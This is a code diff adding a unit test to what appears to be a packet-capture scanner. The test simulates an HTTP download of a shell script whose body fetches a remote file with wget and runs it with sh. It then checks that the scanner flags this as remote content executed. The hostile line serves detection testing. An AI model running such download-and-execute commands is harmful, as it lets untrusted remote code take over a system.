@@ -150,6 +150,18 @@ class Judged(Folder):
         self.assertIn("wire-files-clear", rules(result))
 
 
+    def test_what_was_carried_is_scanned_when_asked(self):
+        script = b"#!/bin/sh\nwget -O /tmp/run.sh http://203.0.113.9/run.sh\nsh /tmp/run.sh\n"
+        talk = wire.Talk(DEVICE, PEER, 80).open().say(True, b"GET /u.sh HTTP/1.0\r\nHost: a.example\r\n\r\n")
+        talk.say(False, b"HTTP/1.0 200 OK\r\nContent-Length: %d\r\n\r\n" % len(script) + script).close()
+        capture = self.capture(talk.packets)
+        self.assertNotIn("devices", self.judged("capture", capture))
+        seen, carried = self.judged("capture", capture, "--scan-carried")["devices"]
+        self.assertIn("/u.sh", carried["device"])
+        self.assertIn("remote-content-executed", rules(carried))
+        self.assertIn("wire-files-clear", rules(seen))
+
+
 class Damaged(Folder):
     def refused(self, *words, status=3):
         done = run(*words)
